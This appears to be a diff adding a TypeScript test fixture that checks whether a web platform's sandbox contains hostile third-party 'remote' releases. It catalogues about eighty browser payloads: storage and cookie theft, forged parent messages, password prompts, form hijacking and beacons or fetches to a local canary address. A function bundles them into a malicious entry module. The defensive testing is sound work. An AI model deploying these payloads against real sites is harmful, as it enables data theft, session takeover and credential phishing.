@@ -1,0 +1,168 @@
+import { createServer, type Server } from 'node:http';
+
+/** Counts whoever gets through to it: an address that no release may reach. */
+export type Canary = { readonly address: string; readonly reached: string[]; readonly close: () => void };
+
+export async function canary(): Promise<Canary> {
+  const reached: string[] = [];
+  const server: Server = createServer((request, response) => {
+    reached.push(request.url ?? '');
+    response
+      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
+      .end('1');
+  });
+  await new Promise<void>((resolve) => {
+    server.listen(0, '127.0.0.1', resolve);
+  });
+  const close = () => {
+    server.close();
+    server.closeAllConnections();
+  };
+  return { address: `http://127.0.0.1:${Object(server.address()).port}`, reached, close };
+}
+
+/** What a page of the platform has, and no release may read or change. */
+export const SECRET = { key: 'entrepre-puzzle.secret', text: 'of another remote' };
+
+/** Loads something by an element, and says whether it came. */
+const load = (tag: string, attributes: string) =>
+  `new Promise((yes, no) => document.head.append(Object.assign(document.createElement('${tag}'), { onload: () => yes(true), onloadeddata: () => yes(true), onerror: no, ${attributes} })))`;
+const clicked = (attributes: string) =>
+  `(document.body.append(Object.assign(document.createElement('a'), { ${attributes}, id: 'lure' })), document.getElementById('lure').click(), document.getElementById('lure').remove(), false)`;
+/** A page within the page, and what of it can be reached. */
+const nested = (attributes: string, what: string) =>
+  `new Promise((yes) => { const inner = Object.assign(document.createElement('iframe'), { ${attributes} }); inner.onload = () => { try { yes(${what}) } catch { yes(false) } }; document.body.append(inner); setTimeout(() => yes(false), 800) })`;
+
+/** What works and harms nobody: whoever goes back stays on the page for one step more. */
+export const HARMLESS = 'adds a step to the history';
+
+/**
+ * What a hostile release tries: expressions that are true, or promise something true, where it works. CANARY stands for an
+ * address outside. Those that send something are seen there.
+ */
+export const ATTEMPTS: Readonly<Record<string, string>> = {
+  'writes a cookie': `(document.cookie = 'mine=1', document.cookie.includes('mine'))`,
+  'uses the cookie store': `cookieStore.set('mine', '1').then(() => cookieStore.get('mine'))`,
+  'reads a value of another remote': `localStorage.getItem('${SECRET.key}') !== null`,
+  'lists values of the platform': `Object.keys(localStorage).some((key) => /^venture\\.(list-serial|owner-notes|visits|browser|goal)/.test(key))`,
+  'writes a value of another remote': `(localStorage.setItem('${SECRET.key}', 'mine'), false)`,
+  'clears all that is stored': `(localStorage.clear(), sessionStorage.clear(), false)`,
+  'logs somebody else in': `(localStorage.setItem('userId', 'mine'), false)`,
+  'reads the session storage of the page': `sessionStorage.getItem('secret')`,
+  'opens a database': `new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes(true); open.onerror = no })`,
+  'opens the caches': `caches.open('venture-page').then(() => true)`,
+  'asks for stored things of the site': `document.requestStorageAccess().then(() => document.cookie !== '')`,
+  'gets a folder of files': `navigator.storage.getDirectory().then(() => true)`,
+  'holds a lock of the page': `navigator.locks.request('venture-sync', { ifAvailable: true }, (lock) => lock !== null)`,
+  'reads the document around': `Boolean(parent.document.body)`,
+  'reads the address around': `top.location.href !== ''`,
+  'reads the storage around': `top.localStorage.length >= 0`,
+  'reads its own element': `frameElement !== null && frameElement.ownerDocument !== document`,
+  'has an opener': `Boolean(opener)`,
+  [HARMLESS]: `(history.pushState({}, ''), true)`,
+  'calls the platform as the person': `fetch(new URL('/api/v1/me', PAGE)).then((answer) => answer.ok)`,
+  fetches: `fetch('CANARY/fetch').then(() => true)`,
+  'fetches without asking': `fetch('CANARY/no-cors', { mode: 'no-cors' }).then(() => true)`,
+  'sends by XMLHttpRequest': `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes(true); x.onerror = no; x.open('GET', 'CANARY/xhr'); x.send() })`,
+  'opens a socket': `new Promise((yes, no) => { const socket = new WebSocket('CANARY/socket'.replace('http', 'ws')); socket.onopen = () => yes(true); socket.onerror = no })`,
+  'opens a stream of events': `new Promise((yes, no) => { const source = new EventSource('CANARY/events'); source.onopen = () => yes(true); source.onerror = no })`,
+  'sends a beacon': `(navigator.sendBeacon('CANARY/beacon', 'x'), false)`,
+  'opens a transport': `new WebTransport('https://127.0.0.1:1/x').ready.then(() => true)`,
+  'connects by WebRTC': `Boolean(new RTCPeerConnection({ iceServers: [] }).createDataChannel('x'))`,
+  'loads a picture': load('img', `src: 'CANARY/picture'`),
+  'loads a picture by its set': load('img', `srcset: 'CANARY/set 1x'`),
+  'loads a film': load('video', `src: 'CANARY/film'`),
+  'loads a sound': load('audio', `src: 'CANARY/sound', preload: 'auto'`),
+  'loads a style sheet': load('link', `rel: 'stylesheet', href: 'CANARY/style'`),
+  'imports a style sheet': `(document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "CANARY/import"; body { background: url(CANARY/background) }' })), false)`,
+  'loads a font': `new FontFace('mine', 'url(CANARY/font)').load().then(() => true)`,
+  preloads: load('link', `rel: 'preload', as: 'script', href: 'CANARY/preload'`),
+  prefetches: load('link', `rel: 'prefetch', href: 'CANARY/prefetch'`),
+  'loads a manifest': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'CANARY/manifest' })), false)`,
+  'loads an icon': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'CANARY/icon' })), false)`,
+  'loads a script': load('script', `src: 'CANARY/script'`),
+  'imports a module': `import('CANARY/module').then(() => true)`,
+  'runs a script from a text': load('script', `src: 'data:text/javascript,1'`),
+  'runs an inline script': `(document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.inline = true' })), window.inline === true)`,
+  'runs an attribute': `(document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.attribute = true">'), new Promise((yes) => setTimeout(() => yes(window.attribute === true), 300)))`,
+  'evaluates a text': `eval('1') === 1`,
+  'makes a function of a text': `new Function('return 1')() === 1`,
+  'runs a text later': `new Promise((yes) => { setTimeout('window.later = true'); setTimeout(() => yes(window.later === true), 300) })`,
+  'embeds an object': load('object', `data: 'CANARY/object'`),
+  'embeds a plugin': load('embed', `src: 'CANARY/embed'`),
+  'frames a page outside': nested(`src: 'CANARY/inner'`, 'false'),
+  'frames a page of the platform': nested(`src: new URL('/', PAGE).href`, `inner.contentDocument !== null`),
+  'frames an empty page for its WebRTC': nested(
+    `src: 'about:blank'`,
+    `Boolean(inner.contentWindow.RTCPeerConnection)`,
+  ),
+  'frames a written page for its WebRTC': nested(
+    `srcdoc: '<p>x</p>'`,
+    `Boolean(inner.contentWindow.RTCPeerConnection)`,
+  ),
+  'frames a script': nested(`srcdoc: '<script>parent.postMessage("ran", "*")</script>'`, 'false'),
+  'frames code by an address': nested(`src: 'javascript:parent.postMessage("ran", "*")'`, 'false'),
+  'submits a form': `(() => { const form = Object.assign(document.createElement('form'), { action: 'CANARY/form', method: 'post' }); document.body.append(form); form.submit(); return false })()`,
+  'submits a form to a new window': `(() => { const form = Object.assign(document.createElement('form'), { action: 'CANARY/form-window', target: '_blank' }); document.body.append(form); form.submit(); return false })()`,
+  'opens a window': `Boolean(open('CANARY/window'))`,
+  'follows a link to a new window': clicked(`href: 'CANARY/link', target: '_blank'`),
+  'follows a link of the whole page': clicked(`href: 'CANARY/top-link', target: '_top'`),
+  'navigates the page around': `(top.location = 'CANARY/top', true)`,
+  'asks by a dialog of the browser': `confirm('Password?') || prompt('Password?') !== null`,
+  'writes to the clipboard': `navigator.clipboard.writeText('mine').then(() => true)`,
+  'reads the clipboard': `navigator.clipboard.readText().then(() => true)`,
+  notifies: `Notification.requestPermission().then((answer) => answer === 'granted')`,
+  'learns where somebody is': `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes(true), no))`,
+  'uses the camera': `navigator.mediaDevices.getUserMedia({ video: true }).then(() => true)`,
+  'captures the screen': `navigator.mediaDevices.getDisplayMedia().then(() => true)`,
+  'captures the keyboard': `navigator.keyboard.lock().then(() => document.fullscreenElement !== null)`,
+  'locks the pointer': `document.body.requestPointerLock().then(() => document.pointerLockElement !== null)`,
+  'fills the screen': `document.body.requestFullscreen().then(() => true)`,
+  'reads passwords that are kept': `navigator.credentials.get({ password: true }).then(Boolean)`,
+  'picks files': `showOpenFilePicker().then(() => true)`,
+  'asks for a payment': `new PaymentRequest([{ supportedMethods: 'https://x.example' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show().then(() => true)`,
+  'leaves a service worker': `navigator.serviceWorker.register(new URL('/service-worker.js', PAGE).href).then(() => true)`,
+  'starts a worker': `new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => yes(true); worker.onerror = no })`,
+  'starts a shared worker': `new Promise((yes, no) => { const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = ({ ports }) => ports[0].postMessage(1)']))); worker.port.onmessage = () => yes(true); worker.onerror = no; worker.port.start() })`,
+  'adds a worklet': `CSS.paintWorklet.addModule('CANARY/worklet').then(() => true)`,
+  'talks to all windows of the site': `(new BroadcastChannel('venture').postMessage('mine'), false)`,
+  'forges messages to the page around': `(parent.postMessage({ type: 'navigate', to: '/admin/users' }, '*'), top.postMessage('mine', '*'), false)`,
+  'takes the name of the platform in the title': `(document.title = 'mine', false)`,
+};
+
+/** What leads the frame away from its page, which the platform then takes away. Some browsers refuse it at once. */
+export const LEAVING: Readonly<Record<string, string>> = {
+  'goes elsewhere': `location.href = 'CANARY/self'`,
+  'goes to a page of the platform': `location.href = new URL('/', PAGE).href`,
+  'refreshes to elsewhere': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=CANARY/refresh">')`,
+  'writes its document anew': `document.open(), document.write('<form action="CANARY/form"><input type="password" autofocus></form>'), document.close()`,
+  downloads: `${clicked(`href: 'data:text/plain,x', download: 'x.txt'`)}`,
+};
+
+const NAME = 'venture_cash_stack_hostile';
+export const HOSTILE = { global: NAME, entry: 'js/remoteEntry.js', key: 'cash-stack.report' };
+
+/** A release that tries all of it, and then keeps as its own value what worked. */
+export function hostileEntry({ address }: Canary, page: string): string {
+  const table = Object.entries(ATTEMPTS).map(
+    ([name, code]) => `${JSON.stringify(name)}: () => (${code.replaceAll('CANARY', address)})`,
+  );
+  return `var ${NAME} = (() => {
+    const PAGE = ${JSON.stringify(page)};
+    const heard = [];
+    addEventListener('message', ({ data }) => heard.push(data));
+    const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1500))]);
+    const attempts = { ${table.join(',\n')} };
+    async function attack() {
+      const worked = [];
+      await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
+        try { if (await within(Promise.resolve().then(attempt))) worked.push(name) } catch {}
+      }));
+      if (heard.includes('ran')) worked.push('runs code in a frame');
+      const who = localStorage.getItem('userId');
+      localStorage.setItem('${HOSTILE.key}', JSON.stringify({ worked: worked.sort(), who, origin: String(globalThis.origin) }));
+    }
+    const pages = { '/cash-stack': () => { if (!globalThis.began) { globalThis.began = true; void attack(); } return 'Hostile.'; } };
+    return { init() {}, get: () => Promise.resolve(() => ({ pages })) };
+  })();`;
+}
